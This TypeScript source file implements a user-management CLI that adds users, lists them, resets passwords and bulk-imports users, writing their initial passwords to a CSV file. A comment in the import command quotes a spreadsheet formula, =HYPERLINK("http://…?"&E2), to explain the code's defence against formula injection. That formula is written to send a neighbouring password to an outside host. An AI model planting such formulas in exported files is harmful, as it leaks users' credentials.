// `jixiao user add|list|passwd`: the first admin of a new deployment, and user chores from a shell.
// Acts as the system through the same service as the web screen (validation, audit). Passwords
// never travel on the command line: generated and shown once, or read from standard input.
import { existsSync, writeFileSync } from 'node:fs';
import { Command, Option } from 'commander';
import { SYSTEM_ACTOR, type Role } from '../../domain/access.js';
import { ROLE_ORDER } from '../../domain/userAdmin.js';
import { accountService } from '../../services/account.js';
import { ServiceError } from '../../services/errors.js';
import { generatePassword, importUsers } from '../../services/userImport.js';
import { userAdminService } from '../../services/users.js';
import { readUserRows } from '../../domain/userImport.js';
import { readRows } from '../../documents/import/rows.js';
import { ReadError } from '../../documents/import/read.js';
import { progressBar } from '../progress.js';
import { readInputFile } from '../readInput.js';
import { userNamed } from '../../services/system.js';
import type { Services } from '../../services/index.js';
import { CliError, findUnitOrExit, withDataOption, type RegisterCommand } from '../context.js';
import { withServices } from './db.js';

async function readStdin(): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const c of process.stdin) chunks.push(c as Buffer);
  const text = Buffer.concat(chunks)
    .toString('utf8')
    .replace(/\r?\n$/, '');
  if (!text) throw new CliError('标准输入没有密码 / no password on standard input', 2);
  return text;
}

const ROLE_LABEL: Record<Role, string> = { filler: '填报人', reviewer: '审核人', finance: '财政', admin: '管理员' };

async function serviceCall<T>(fn: () => Promise<T>): Promise<T> {
  try {
    return await fn();
  } catch (e) {
    if (e instanceof ServiceError) throw new CliError(e.message, e.code === 'invalid' ? 2 : 1);
    throw e;
  }
}

async function passwordFrom(opts: { passwordStdin?: boolean }): Promise<{ password: string; generated: boolean }> {
  if (opts.passwordStdin) return { password: await readStdin(), generated: false };
  return { password: generatePassword(), generated: true };
}

async function unitIdOf(s: Services, unit: string | undefined): Promise<string | null> {
  if (unit === undefined) return null;
  return (await findUnitOrExit(s.store.db, unit)).id;
}

export const register: RegisterCommand = (program, io) => {
  const user = new Command('user').description('用户与角色 / users and roles');

  user.addCommand(
    withDataOption(new Command('add'))
      .description('新建用户并授予一个角色（无 --unit 的管理员覆盖全部单位）/ create a user with one grant')
      .argument('<username>', '用户名 / username')
      .requiredOption('--name <displayName>', '姓名 / display name')
      .addOption(new Option('--role <role>', '角色 / role').choices([...ROLE_ORDER]).makeOptionMandatory())
      .option('--unit <unit>', '单位名称、简称或代码 / unit name, short name or code')
      .option('--password-stdin', '从标准输入读密码（默认生成并显示一次）/ read the password from stdin (default: generate and show once)')
      .action(async (username: string, opts: { name: string; role: Role; unit?: string; passwordStdin?: boolean; data?: string }) => {
        if (opts.role !== 'admin' && opts.unit === undefined)
          throw new CliError(`${ROLE_LABEL[opts.role]}必须指定 --unit / --unit is required for ${opts.role}`, 2);
        const { password, generated } = await passwordFrom(opts);
        const created = await withServices(opts, async (s) => {
          const unitId = await unitIdOf(s, opts.unit);
          return serviceCall(() =>
            userAdminService(s.store.db).create(SYSTEM_ACTOR, { username, displayName: opts.name, password, grants: [{ role: opts.role, unitId }] }),
          );
        });
        const where = created.grants[0]?.unitName ?? '全部单位 / whole deployment';
        io.out(`已创建用户 ${created.username}（${created.displayName}）：${ROLE_LABEL[opts.role]} @ ${where}\n`);
        if (generated) io.out(`初始密码（只显示这一次，请登录后修改）/ initial password (shown once): ${password}\n`);
      }),
  );

  user.addCommand(
    withDataOption(new Command('list'))
      .description('列出用户及其角色 / list users and their grants')
      .option('--q <text>', '按用户名或姓名筛选 / filter by username or name')
      .action(async (opts: { q?: string; data?: string }) => {
        const page = await withServices(opts, (s) =>
          userAdminService(s.store.db).list(SYSTEM_ACTOR, { ...(opts.q ? { q: opts.q } : {}), limit: 500, offset: 0 }),
        );
        for (const u of page.users) {
          const grants = u.grants.map((g) => `${ROLE_LABEL[g.role]}@${g.unitName ?? '全部单位'}`).join('，') || '（无角色）';
          io.out(`${u.username}\t${u.displayName}\t${u.disabled ? '已停用' : '正常'}\t${grants}\n`);
        }
        io.out(`共 ${page.total} 个用户${page.total > page.users.length ? `（显示前 ${page.users.length} 个）` : ''} / ${page.total} users\n`);
      }),
  );

  user.addCommand(
    withDataOption(new Command('passwd'))
      .description('重置用户密码并结束其全部会话 / reset a password and end every session of the user')
      .argument('<username>', '用户名 / username')
      .option('--password-stdin', '从标准输入读新密码（默认生成并显示一次）/ read the new password from stdin')
      .action(async (username: string, opts: { passwordStdin?: boolean; data?: string }) => {
        const { password, generated } = await passwordFrom(opts);
        const ended = await withServices(opts, async (s) => {
          const u = await userNamed(s.store.db, username);
          if (!u) throw new CliError(`未找到用户 / no such user: ${username}`, 1);
          return serviceCall(() => accountService(s.store.db).resetPassword(SYSTEM_ACTOR, u.id, password));
        });
        io.out(`已重置 ${username} 的密码，结束 ${ended} 个会话 / password reset, ${ended} sessions ended\n`);
        if (generated) io.out(`新密码（只显示这一次）/ new password (shown once): ${password}\n`);
      }),
  );

  user.addCommand(
    withDataOption(new Command('import'))
      .description('从 .xlsx/.csv 批量创建用户（表头：用户名、姓名、角色、单位），初始密码写入 --out 文件 / create many users from a list')
      .argument('<file>', '.xlsx 或 .csv 文件 / .xlsx or .csv file')
      .option('--out <csv>', '写出用户名与初始密码的文件（不覆盖已有文件）/ where to write usernames and initial passwords')
      .option('--dry-run', '只检查，不创建 / check only, create nothing')
      .action(async (file: string, opts: { out?: string; dryRun?: boolean; data?: string }) => {
        if (!opts.dryRun && !opts.out) throw new CliError('请用 --out 指定初始密码文件 / --out is required (the passwords are shown nowhere else)', 2);
        if (opts.out && existsSync(opts.out)) throw new CliError(`文件已存在，不覆盖 / will not overwrite: ${opts.out}`, 2);
        let table: string[][];
        try {
          table = await readRows(await readInputFile(file), file);
        } catch (e) {
          if (e instanceof CliError) throw e;
          if (e instanceof ReadError || (e as NodeJS.ErrnoException).code === 'ENOENT')
            throw new CliError(`无法读取 / cannot read ${file}: ${(e as Error).message}`, 2);
          throw e;
        }
        const { rows, problems } = readUserRows(table);
        const report = (ps: { line: number; message: string }[]) => {
          for (const p of ps) io.err(`第 ${p.line} 行 / line ${p.line}: ${p.message}\n`);
          return new CliError(`${ps.length} 处问题，未创建任何用户 / ${ps.length} problems, nothing created`, 1);
        };
        if (problems.length) throw report(problems);
        const bar = progressBar(io.err);
        const result = await withServices(opts, (s) =>
          serviceCall(() =>
            importUsers(s.store.db, SYSTEM_ACTOR, rows, { dryRun: opts.dryRun ?? false, onHashed: (d, t) => bar('生成初始密码 / hashing', d, t) }),
          ),
        );
        if (result.problems.length) throw report(result.problems);
        if (opts.dryRun) {
          io.out(`检查通过：可创建 ${rows.length} 个用户 / ${rows.length} users would be created\n`);
          return;
        }
        // A cell starting with = + - @ (or a tab or CR) is a formula once the file is opened in a
        // spreadsheet: a display name =HYPERLINK("http://…?"&E2) would send the password beside it away.
        // A leading ' keeps it text; quotes, commas and line breaks are quoted.
        const csv = (text: string) => {
          const v = /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
          return /[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
        };
        const lines = [
          '用户名,姓名,角色,单位,初始密码',
          ...result.created.map((u) => [u.username, u.displayName, ROLE_LABEL[u.role], u.unitName ?? '全部单位', u.password].map(csv).join(',')),
        ];
        writeFileSync(opts.out!, `\uFEFF${lines.join('\n')}\n`, { mode: 0o600, flag: 'wx' });
        io.out(
          `已创建 ${result.created.length} 个用户；初始密码在 ${opts.out}（首次登录须修改）/ ${result.created.length} users created; passwords in ${opts.out}\n`,
        );
      }),
  );

  program.addCommand(user);
};
